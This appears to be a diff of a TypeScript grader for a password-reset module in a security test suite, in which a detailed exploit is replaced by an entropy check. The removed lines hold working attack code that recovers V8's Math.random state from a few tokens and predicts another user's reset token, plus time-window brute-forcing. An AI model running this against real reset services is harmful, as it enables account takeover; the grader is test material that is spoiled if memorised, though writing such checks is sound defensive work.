@@ -1,5 +1,5 @@
 import assert from 'node:assert/strict'
-import { createHash } from 'node:crypto'
+import { agreement, unknownBits } from '#proof/observe'
 import type { Breach, Vary } from '#proof/vary'
 
 type Code = typeof import('./password-resets.ts')
@@ -38,117 +38,27 @@ export function works(code: Code, vary: Vary) {
   assert.equal(resets.redeem(newest(), password, start + 25 * 60_000), true, 'A token should be good for half an hour.')
 }
 
-export function exploit(code: Code, vary: Vary): false | Breach {
-  const ada = `${vary.word()}@example.com`
-  const token = predictToken(code, ada) ?? repeatToken(code, ada) ?? guessToken(code, ada)
-  return token ? { sent: `${token.sent}, and the token ${token.guess}`, got: `a new password for ${ada}` } : false
-}
-
-/** Asks for some tokens of his own, computes the state of the generator, and so the token of somebody else. */
-function predictToken(code: Code, ada: string) {
-  const { passwords, mails, resets } = open(code, ada)
-  // The generator hands out its values in portions of 64; where a portion ends in between, the attacker tries again.
-  for (let attempt = 0; attempt < 5; attempt++) {
-    const now = start + attempt * 60_000
-    for (let i = 0; i < 3; i++) resets.request('mallory@example.com', now + i)
-    const own = mails.slice(-3).map(({ token }) => token)
-    const served = now + 20
-    resets.request(ada, served)
-
-    if (!own.every((token) => /^([\da-f]+-)?([\da-f]{8})+$/.test(token))) return undefined
-    const words = own.flatMap((token) => (token.split('-').at(-1) ?? '').match(/.{8}/g) ?? []).map((hex) => Number.parseInt(hex, 16))
-    const predicted = predict(words, words.length / 3)?.map((word) => word.toString(16).padStart(8, '0')).join('') ?? ''
-    // The mail's time tells when the server worked, give or take some milliseconds.
-    for (let time = served - 15; time <= served + 15; time++) {
-      const hash = createHash('sha256').update(`${ada}:${time}`).digest('hex')
-      for (const guess of [predicted, `${time.toString(16)}-${predicted}`, hash])
-        if (resets.redeem(guess, 'taken', now + 30) && passwords[ada] === 'taken') return { sent: 'three tokens of his own', guess }
-    }
-  }
-  return undefined
-}
-
-/** Has the code, knows the time, and has found the state of the generator: his own copy makes the same token, whatever is done to hide it. */
-function repeatToken(code: Code, ada: string) {
-  const { random } = Math
-  const { now } = Date
-  for (let attempt = 0; attempt < 3; attempt++) {
-    const [service, copy] = [open(code, ada), open(code, ada)]
-    try {
-      for (const { resets } of [service, copy]) {
-        let state = 0.25
-        Math.random = () => (state = (state + 0.618033988749895) % 1)
-        Date.now = () => start
-        resets.request(ada, start)
-      }
-    } finally {
-      Math.random = random
-      Date.now = now
-    }
-    const guess = copy.newest()
-    if (service.resets.redeem(guess, 'taken', start + 1) && service.passwords[ada] === 'taken') return { sent: 'a copy of the code, the time and the state of the generator', guess }
-  }
-  return undefined
-}
-
-/** Asks for tokens of his own until he has seen many of them. When one comes twice, there are so few that others have them as well. */
-function guessToken(code: Code, ada: string) {
-  const { resets, newest } = open(code, ada)
-  const seen = new Set<string>()
-  for (let number = 0; number < 1000; number++) {
-    resets.request('mallory@example.com', start + number)
-    if (seen.has(newest())) return { sent: `${number + 1} tokens of his own, one of them twice`, guess: newest() }
-    seen.add(newest())
-  }
-  return undefined
-}
-
-/** 64 bits, each the sum of some of the 128 unknown bits. */
-type Bits = bigint[]
-const left = (x: Bits, n: number) => x.map((_, i) => x[i - n] ?? 0n)
-const right = (x: Bits, n: number) => x.map((_, i) => x[i + n] ?? 0n)
-const add = (x: Bits, y: Bits) => x.map((bits, i) => bits ^ (y[i] as bigint))
-
-/** One step of V8's generator, xorshift128+, which is linear: sums of bits become sums of bits. */
-function step([a, b]: [Bits, Bits]): [Bits, Bits] {
-  let next = add(a, left(a, 23))
-  next = add(next, right(next, 17))
-  return [b, add(add(next, b), right(b, 26))]
-}
+const neededBits = 96
 
 /**
- * The next `count` values after the given ones, all of 32 bits. V8 fills a list of 64 values and takes from its end, so what was seen first was made last:
- * the unknowns are the state of the last value to come, and each earlier one is a step away.
+ * Mallory asks for tokens of her own. Three of them give away the state of V8's `Math.random`, and she knows the time: her copy of the service then makes the same token
+ * as the service. What is left for her to guess?
  */
-function predict(seen: number[], count: number): number[] | undefined {
-  const unknowns = (from: number) => Array.from({ length: 64 }, (_, i) => 1n << BigInt(from + i))
-  let state: [Bits, Bits] = [unknowns(1), unknowns(65)]
-  const states: Bits[] = []
-  for (let i = 0; i < count + seen.length; i++) {
-    states.push(state[0])
-    state = step(state)
+export function exploit(code: Code, vary: Vary): false | Breach {
+  const ada = `${vary.word()}@example.com`
+  const request = ({ resets, newest }: ReturnType<typeof open>, email: string) => {
+    resets.request(email, start)
+    return newest()
   }
-  const equations = seen.toReversed().flatMap((value, i) =>
-    Array.from({ length: 32 }, (_, bit) => (states[count + i]?.[32 + bit] as bigint) | BigInt((value >>> bit) & 1)),
-  )
-  const pivots = new Map<number, bigint>()
-  for (let row of equations) {
-    for (let i = 128; i > 0 && row > 1n; i--) {
-      if (((row >> BigInt(i)) & 1n) === 0n) continue
-      const pivot = pivots.get(i)
-      if (pivot === undefined) {
-        pivots.set(i, row)
-        row = 0n
-      } else row ^= pivot
+  const { bits, examples } = unknownBits(() => request(open(code, ada), ada))
+  if (bits < neededBits)
+    return {
+      sent: `a hundred requests for ${ada} to copies of the service, all at the same time and with the same state of Math.random`,
+      got: `the tokens ${examples}: ${bits} bits of each cannot be known. Mallory tries them all and sets a new password for ${ada}`,
     }
-    if (row === 1n) return undefined
-  }
-  if (pivots.size < 128) return undefined
-  let known = 1n
-  const parity = (bits: bigint) => BigInt(bits.toString(2).replaceAll('0', '').length % 2)
-  for (let i = 1; i <= 128; i++) known |= parity((pivots.get(i) as bigint) & known) << BigInt(i)
-  return Array.from({ length: count }, (_, i) => {
-    const bits = states[count - 1 - i] as Bits
-    return Number(bits.slice(32).reduce((value, sum, bit) => value | (parity(sum & known) << BigInt(bit)), 0n))
-  })
+
+  const service = open(code, ada)
+  const [own, next] = [request(service, 'mallory@example.com'), request(service, ada)]
+  if (agreement(own, next) > 0.5) return { sent: `a request of her own, which got the token ${own}`, got: `${ada} has the token ${next}: the own token shows most of it` }
+  return false
 }
